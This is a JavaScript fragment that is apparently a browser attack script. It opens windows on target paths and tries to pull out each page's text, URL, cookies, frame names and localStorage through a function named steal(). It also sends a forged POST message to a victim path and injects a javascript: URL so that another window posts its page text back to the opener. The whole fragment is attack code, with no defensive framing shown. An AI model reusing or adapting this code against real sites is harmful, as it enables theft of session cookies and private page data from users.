// Windows of ours that they open, talk to, and lead elsewhere.
for (const path of READING) {
  const opened = open(url(path), "victim");
  await nap(120);
  for (const look of [
    () => opened.document.body.innerText,
    () => opened.location.href !== "about:blank" && opened.location.href,
    () => opened.eval("document.cookie"),
    () => opened.frames[0]?.name,
    () => opened.localStorage.length,
  ]) {
    try {
      await steal(look());
    } catch {
      // another origin's
    }
  }
  opened?.postMessage({ method: "POST", path: VICTIM }, "*");
}
for (const { path } of CHANGING) {
  open(url(path), "victim");
  await nap(50);
}
onmessage = (event) => steal(event.data);
const talking = open(url("/api/docs"), "another");
await nap(400);
try {
  talking.location = `javascript:opener.postMessage(document.body.innerText, "*")`;
} catch {
  // another origin's
}
await nap(200);
